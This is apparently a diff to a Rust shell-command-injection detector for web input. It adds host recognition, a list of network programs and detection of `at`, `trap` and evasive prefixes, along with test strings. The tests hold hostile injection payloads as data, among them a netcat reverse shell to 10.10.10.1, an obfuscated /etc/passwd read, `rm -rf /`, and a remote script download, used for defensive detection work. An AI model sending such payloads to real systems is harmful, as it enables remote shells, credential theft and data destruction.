@@ -352,7 +352,7 @@ const ENGLISH_EXTRA: &[&str] = &[
     "at", "w", "file", "host", "fetch", "make", "view", "write", "last", "free", "top", "go", "yes", "let", "source", "bind", "export",
     "service", "screen", "column", "paste", "fold", "cut", "tr", "ip", "ss", "salt", "chef", "aws", "az", "apt", "gem", "seq", "stat",
     "ed", "sc", "cmd", "groups", "mount", "route", "history", "alias", "wall", "finger", "cat", "cd", "python", "node", "ruby", "java",
-    "dig", "ping", "curl", "pip",
+    "dig", "ping", "curl", "pip", "trap",
 ];
 
 static PROGRAMS: super::Words = super::Words::new(PROGRAM_LIST);
@@ -397,6 +397,55 @@ struct Args {
     other_program: bool,
     /// A file name with a script, config or data extension (`site.yml`).
     file: bool,
+    /// A host name or IP address (`example.org`, `10.0.0.1`).
+    host: bool,
+}
+
+/// `example.org`, `10.10.10.1`, `sub.example.co.kr:8080`: labels of
+/// letters, digits and hyphens joined by dots, ending in a letter label
+/// of two or more (a TLD) or forming a dotted quad.
+fn is_host(w: &[u8]) -> bool {
+    let w = w.split(|&b| b == b'/').next().unwrap_or(w);
+    let w = w.split(|&b| b == b':').next().unwrap_or(w);
+    let labels: Vec<&[u8]> = w.split(|&b| b == b'.').collect();
+    if labels.len() < 2 || labels.iter().any(|l| l.is_empty() || !l.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'-')) {
+        return false;
+    }
+    let last = labels[labels.len() - 1];
+    let quad = labels.len() == 4 && labels.iter().all(|l| l.len() <= 3 && l.iter().all(u8::is_ascii_digit));
+    quad || (last.len() >= 2 && last.iter().all(u8::is_ascii_alphabetic))
+}
+
+/// Programs whose usual argument is a host: given one, they reach out.
+const NETWORK: &[&str] = &[
+    "curl",
+    "wget",
+    "ping",
+    "nslookup",
+    "dig",
+    "host",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "ssh",
+    "ftp",
+    "tftp",
+    "traceroute",
+    "tracert",
+    "whois",
+    "socat",
+    "lynx",
+    "fetch",
+];
+
+/// `at 2:00`, `at now + 1 minute`: the time spec `at` schedules a job for.
+fn at_time_spec(rest: &[u8]) -> bool {
+    let w: &[u8] = rest.split(|b| b.is_ascii_whitespace()).next().unwrap_or(b"");
+    let clock = w.len() <= 5
+        && w.contains(&b':')
+        && w.split(|&b| b == b':').all(|p| (1..=2).contains(&p.len()) && p.iter().all(u8::is_ascii_digit));
+    clock || [&b"now"[..], b"midnight", b"noon", b"teatime"].contains(&w)
 }
 
 fn read_args(s: &[u8], mut i: usize, out: &mut Args) -> usize {
@@ -476,6 +525,9 @@ fn read_args(s: &[u8], mut i: usize, out: &mut Args) -> usize {
                         b"exe", b"gz", b"tgz", b"jar", b"so", b"pem", b"key",
                     ];
                     out.file |= EXT.contains(&&w[dot + 1..]);
+                    out.host |= is_host(w);
+                } else if is_host(w) {
+                    out.host = true;
                 }
             }
         }
@@ -882,6 +934,9 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
             i += 1;
         }
         let mut prefixed = false;
+        // A prefix no one types but an attacker: an unset variable, or the
+        // SQLite shell's `.shell`/`.system`.
+        let mut evasive = false;
         // `|$u wget x`, `;$a cat x`: an unset variable expands to nothing
         // in front of the command.
         if !at_value_start && s.get(i) == Some(&b'$') {
@@ -889,6 +944,7 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
             if (1..=8).contains(&n) && s.get(i + 1 + n) == Some(&b' ') {
                 i += n + 2;
                 prefixed = true;
+                evasive = true;
             }
         }
         let mut word_start = i;
@@ -914,6 +970,7 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
                 }
                 if program(&s[i..j]).is_some() {
                     prefixed = true;
+                    evasive |= w == ".shell" || w == ".system";
                     hops += 1;
                     continue;
                 }
@@ -948,7 +1005,12 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
         let Some((name, english)) = program(word) else { continue };
         let mut args = Args::default();
         read_args(s, i, &mut args);
-        let strong_args = args.flag || args.redirect || args.var || args.syspath || args.other_program;
+        let strong_args = args.flag
+            || args.redirect
+            || args.var
+            || args.syspath
+            || args.other_program
+            || args.host && NETWORK.contains(&name) && (!english || !at_value_start || prefixed);
         // `python -c "…"`, `perl -e '…'`: an interpreter given inline code.
         const INTERPRETERS: &[&str] =
             &["python", "python2", "python3", "perl", "ruby", "php", "node", "nodejs", "bash", "sh", "zsh", "lua"];
@@ -989,7 +1051,12 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
             && [&b"user"[..], b"localgroup", b"group", b"use", b"share", b"view", b"accounts", b"session", b"start", b"stop"]
                 .iter()
                 .any(|w| rest.starts_with(w) && rest.get(w.len()).is_none_or(|b| !b.is_ascii_alphanumeric()));
+        // `;at 2:00 "echo x"`: a job scheduled, in a value that opens with
+        // a separator ("lunch; at 12:30 in the hall" is prose).
+        let at_job = name == "at" && opened && args.words >= 2 && at_time_spec(rest);
         let conf = if prefixed && (!english || strong_args)
+            || evasive
+            || at_job
             || net
             || cd_root
             || program_shaped
@@ -1166,6 +1233,13 @@ mod tests {
             "ifconfig;. rm -rf /;",
             "cat /[?]tc/pa[?]swd",
             ";\n.shell nc 10.10.10.1 6666 -e sh",
+            "1;\n.system id",
+            ";trap 'rm -rf file.txt' sigexit",
+            ";$a cat test.txt",
+            "time curl coreruleset.org",
+            "wget example.com/x.sh",
+            ";at 2:00 echo test",
+            "| at now + 1 minute",
             "| id",
             ";sleep 5;",
             "& dir c:\\",
@@ -1210,6 +1284,14 @@ mod tests {
             "; more -- less",
             "docker compose tutorial",
             "python script.py tutorial",
+            "ping me at 2:00",
+            "meet at 2:00 tomorrow",
+            "dig into example.com reviews",
+            "host example.com for free",
+            "trap music playlist",
+            "go to store.\nat the store, shop.",
+            "lunch; at 12:30 in the hall",
+            "see you; at 2:00 then",
         ] {
             assert!(conf(b).is_none_or(|c| c < Medium), "{b}: {:?}", conf(b));
         }
